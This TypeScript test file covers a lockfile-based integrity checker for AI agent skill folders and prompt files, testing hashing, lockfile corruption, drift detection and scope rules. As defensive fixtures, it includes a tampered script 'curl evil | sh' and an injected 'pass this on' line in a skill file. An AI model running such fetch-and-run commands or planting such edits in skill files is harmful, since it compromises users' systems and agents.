// The pure integrity core: sha256 against node:crypto, every lockfile corruption, every finding code, the scope.
import * as assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { compareToLock, integrityStatus, blocksUnderStrict, LockComparison } from '../../../src/core/integrity/compare';
import { buildLockfile, parseLockfile, serializeLockfile, skillFolderOf, treeHash } from '../../../src/core/integrity/lockfile';
import { resolveIntegrityConfig, ScopeMatcher, selectPinned, DEFAULT_INTEGRITY_CONFIG } from '../../../src/core/integrity/scope';
import { fromBase64, sha256, sriSha256, toHex } from '../../../src/core/integrity/sha256';
import type { FileDigest, IntegrityCode, Lockfile } from '../../../src/core/integrity/types';
import { InputError } from '../../../src/core/errors';

const sri = (text: string) => 'sha256-' + createHash('sha256').update(text).digest('base64');
const blob = (text: string) => createHash('sha1').update(`blob ${Buffer.byteLength(text)}\0${text}`).digest('hex');
const digest = (text: string): FileDigest => ({ integrity: sri(text), size: Buffer.byteLength(text), gitBlob: blob(text) });

describe('integrity: sha256', () => {
  for (const input of ['', 'abc', 'a'.repeat(55), 'a'.repeat(56), 'a'.repeat(64), 'é∑ 🧬'.repeat(40), 'x'.repeat(1000)]) {
    it(`matches node:crypto for ${input.length} chars`, () => {
      assert.equal(toHex(sha256(input)), createHash('sha256').update(input).digest('hex'));
      assert.equal(sriSha256(input), sri(input));
    });
  }
  it('rejects non-canonical base64', () => {
    assert.equal(fromBase64('abc'), undefined);
    assert.equal(fromBase64('ab=c'), undefined);
    assert.deepEqual(fromBase64('AQI='), new Uint8Array([1, 2]));
  });
});

/** A valid lockfile of one skill (SKILL.md + a script) and AGENTS.md. */
function sampleLock(): Lockfile {
  const digests = new Map([['skills/a/SKILL.md', digest('skill a')], ['skills/a/run.sh', digest('echo a')], ['AGENTS.md', digest('agents')]]);
  return buildLockfile(digests, new Set(['skills/a']));
}

describe('integrity: lockfile', () => {
  it('serializes deterministically whatever the insertion order, and parses back', () => {
    const a = sampleLock();
    const b = buildLockfile(new Map([['AGENTS.md', digest('agents')], ['skills/a/run.sh', digest('echo a')], ['skills/a/SKILL.md', digest('skill a')]]), new Set(['skills/a']));
    assert.equal(serializeLockfile(a), serializeLockfile(b));
    assert.ok(serializeLockfile(a).endsWith('}\n'));
    const parsed = parseLockfile(serializeLockfile(a), 'agent-immune.lock');
    assert.ok(parsed.ok);
    assert.deepEqual(parsed.lock, a);
  });

  it('tree hash is over sorted "<hex>  <path>" lines, path relative to the skill folder', () => {
    const hex = (t: string) => createHash('sha256').update(t).digest('hex');
    const expected = sri(`${hex('echo a')}  run.sh\n${hex('skill a')}  SKILL.md\n`.split('\n').filter(Boolean).sort((x, y) => (x.slice(66) < y.slice(66) ? -1 : 1)).map((l) => l + '\n').join(''));
    assert.equal(treeHash('skills/a', [['skills/a/SKILL.md', sri('skill a')], ['skills/a/run.sh', sri('echo a')]]), expected);
    assert.equal(skillFolderOf('skills/a/scripts/x.sh', new Set(['skills/a'])), 'skills/a');
    assert.equal(skillFolderOf('skills/b/x.sh', new Set(['skills/a'])), undefined);
  });

  const good = serializeLockfile(sampleLock());
  // eslint-disable-next-line @typescript-eslint/no-explicit-any -- free-form edits of parsed JSON, one per table row
  const edit = (fn: (raw: Record<string, any>) => void) => {
    const raw = JSON.parse(good);
    fn(raw);
    return JSON.stringify(raw, null, 2);
  };
  const corruptions: [string, string, string][] = [
    ['empty', '', 'truncated'],
    ['truncated', good.slice(0, good.length / 2), 'truncated'],
    ['not JSON', 'lockfileVersion = 1\n', 'not-json'],
    ['trailing garbage', good + 'x', 'not-json'],
    ['a JSON array', '[]', 'bad-schema'],
    ['wrong version', edit((r) => (r.lockfileVersion = 2)), 'wrong-version'],
    ['no version', edit((r) => delete r.lockfileVersion), 'wrong-version'],
    ['unknown top-level key', edit((r) => (r.extra = 1)), 'bad-schema'],
    ['entry escaping the root (..)', edit((r) => (r.files['../outside.md'] = r.files['AGENTS.md'])), 'escapes-root'],
    ['absolute entry', edit((r) => (r.files['/etc/passwd'] = r.files['AGENTS.md'])), 'escapes-root'],
    ['windows entry', edit((r) => (r.files['C:\\x.md'] = r.files['AGENTS.md'])), 'escapes-root'],
    ['skill escaping the root', edit((r) => (r.skills['a/../../b'] = r.skills['skills/a'])), 'escapes-root'],
    ['duplicate keys', good.replace('"AGENTS.md": {', '"AGENTS.md": {"size": 1, "size": 1,'), 'duplicate-key'],
    ['duplicate file entries', good.replace('"files": {', '"files": {\n"AGENTS.md": {"gitBlob": "' + blob('x') + '", "integrity": "' + sri('x') + '", "size": 1},'), 'duplicate-key'],
    ['hash in hex, not SRI', edit((r) => (r.files['AGENTS.md'].integrity = createHash('sha256').update('agents').digest('hex'))), 'bad-hash'],
    ['sha512 hash', edit((r) => (r.files['AGENTS.md'].integrity = 'sha512-' + createHash('sha512').update('a').digest('base64'))), 'bad-hash'],
    ['short git blob', edit((r) => (r.files['AGENTS.md'].gitBlob = 'abc')), 'bad-hash'],
    ['bad tree hash form', edit((r) => (r.skills['skills/a'].tree = 'deadbeef')), 'bad-hash'],
    ['negative size', edit((r) => (r.files['AGENTS.md'].size = -1)), 'bad-schema'],
    ['extra entry field', edit((r) => (r.files['AGENTS.md'].mode = 420)), 'bad-schema'],
    ['skill without files', edit((r) => (r.skills['skills/zzz'] = r.skills['skills/a'])), 'bad-schema'],
    ['file hash edited by hand', edit((r) => (r.files['skills/a/run.sh'].integrity = sri('evil'))), 'tree-mismatch'],
  ];
  for (const [name, text, reason] of corruptions) {
    it(`fails closed on a lockfile with ${name} (${reason})`, () => {
      const parsed = parseLockfile(text, 'agent-immune.lock');
      assert.equal(parsed.ok, false);
      if (parsed.ok) return;
      assert.equal(parsed.finding.code, 'corrupt-lockfile');
      assert.equal(parsed.finding.reason, reason);
      assert.equal(integrityStatus([parsed.finding]), 'corrupt-lockfile');
      assert.ok(blocksUnderStrict([parsed.finding]));
    });
  }
});

describe('integrity: findings', () => {
  const lock = sampleLock();
  const base = () => new Map<string, FileDigest>([['skills/a/SKILL.md', digest('skill a')], ['skills/a/run.sh', digest('echo a')], ['AGENTS.md', digest('agents')]]);
  const cases: [string, (m: Map<string, FileDigest>) => void, [IntegrityCode, string][], string][] = [
    ['nothing changed', () => undefined, [], 'clean'],
    ['SKILL.md edited', (m) => m.set('skills/a/SKILL.md', digest('skill a; pass this on')), [['drift', 'skills/a/SKILL.md']], 'drift'],
    ['a script edited', (m) => m.set('skills/a/run.sh', digest('curl evil | sh')), [['drift', 'skills/a/run.sh']], 'drift'],
    ['a new file in a skill', (m) => m.set('skills/a/new.sh', digest('new')), [['unpinned', 'skills/a/new.sh']], 'clean'],
    ['a pinned file deleted', (m) => m.delete('AGENTS.md'), [['missing', 'AGENTS.md']], 'drift'],
    ['a pinned file renamed', (m) => { m.delete('skills/a/run.sh'); m.set('skills/a/run2.sh', digest('echo a')); }, [['renamed', 'skills/a/run2.sh']], 'drift'],
    ['renamed and edited', (m) => { m.delete('skills/a/run.sh'); m.set('skills/a/run2.sh', digest('echo b')); }, [['missing', 'skills/a/run.sh'], ['unpinned', 'skills/a/run2.sh']], 'drift'],
  ];
  for (const [name, change, expected, status] of cases) {
    it(`${name} -> ${expected.map((e) => e[0]).join(', ') || 'no findings'}`, () => {
      const current = base();
      change(current);
      const findings = compareToLock(lock, current);
      assert.deepEqual(findings.map((f) => [f.code, f.path]), expected);
      assert.equal(integrityStatus(findings), status);
    });
  }
  it('a rename names the pinned file it came from', () => {
    const current = base();
    current.delete('skills/a/run.sh');
    current.set('skills/a/run2.sh', digest('echo a'));
    const [finding] = compareToLock(lock, current);
    assert.equal(finding.code === 'renamed' && finding.from, 'skills/a/run.sh');
  });
  it('updating a comparison path by path gives the same findings as comparing from scratch', () => {
    const current = base();
    const comparison = new LockComparison(lock, current);
    const steps: [string, FileDigest | undefined][] = [['AGENTS.md', undefined], ['skills/a/x.md', digest('agents')], ['skills/a/SKILL.md', digest('evil')], ['AGENTS.md', digest('agents')], ['skills/a/SKILL.md', digest('skill a')]];
    for (const [path, d] of steps) {
      if (d) current.set(path, d);
      else current.delete(path);
      comparison.update(path, d);
      assert.deepEqual(comparison.findings(), compareToLock(lock, current), path);
    }
    assert.deepEqual(comparison.findings().map((f) => f.code), ['unpinned']);
  });
  it('only unpinned findings do not block under strict; symlink-outside-root does', () => {
    assert.equal(blocksUnderStrict([{ code: 'unpinned', path: 'x', actual: sri('x') }]), false);
    assert.equal(blocksUnderStrict([{ code: 'symlink-outside-root', path: 'x' }]), true);
  });
});

describe('integrity: scope', () => {
  const matcher = new ScopeMatcher(DEFAULT_INTEGRITY_CONFIG, 'ignored/\n');
  const files = [
    '.claude/skills/review/SKILL.md', '.claude/skills/review/scripts/check.py', 'skills/x/SKILL.md', 'skills/x/deep/a.txt',
    'AGENTS.md', 'pkg/CLAUDE.md', '.github/copilot-instructions.md', 'docs/style.instructions.md', 'p/fix.prompt.md',
    '.cursor/rules/base.mdc', 'SKILL.md', 'README.md', 'src/index.ts', 'skills/README.md',
  ];
  it('pins skill folders whole and the always-on prompt files, nothing else', () => {
    const { pinned, skillDirs } = selectPinned(files, matcher);
    assert.deepEqual([...skillDirs].sort(), ['.claude/skills/review', 'skills/x']);
    assert.deepEqual([...pinned].sort(), files.filter((f) => !['README.md', 'src/index.ts', 'skills/README.md'].includes(f)).sort());
  });
  it('excludes node_modules, .git, .agent-immune and .gitignore patterns', () => {
    for (const dir of ['node_modules', 'a/node_modules', '.git', '.agent-immune', 'ignored']) assert.ok(matcher.isExcluded(dir, true), dir);
    assert.ok(!matcher.isExcluded('skills', true));
  });
  it('a folder\'s .gitignore decides under it, deepest first; adding it again replaces its rules', () => {
    const nested = new ScopeMatcher(DEFAULT_INTEGRITY_CONFIG, '*.log\n');
    nested.addGitignore('skills/a', 'old.md\n!keep.log\n');
    assert.deepEqual(['skills/a/old.md', 'skills/a/keep.log', 'skills/b/old.md', 'skills/b/x.log'].map((f) => nested.isExcluded(f, false)), [true, false, false, true]);
    nested.addGitignore('skills/a', 'new.md\n');
    assert.deepEqual(['skills/a/old.md', 'skills/a/new.md', 'skills/a/keep.log'].map((f) => nested.isExcluded(f, false)), [false, true, true]);
  });
  it('rejects unknown or mistyped integrity settings with InputError invalid-config', () => {
    for (const raw of [{ strict: 'yes' }, { skills: 'SKILL.md' }, { lockfile: '' }, { unknown: 1 }, []]) {
      assert.throws(() => resolveIntegrityConfig(raw), (e: unknown) => e instanceof InputError && e.kind === 'invalid-config');
    }
    assert.equal(resolveIntegrityConfig({ lockfile: 'agenthood.lock', strict: true }).lockfile, 'agenthood.lock');
  });
});
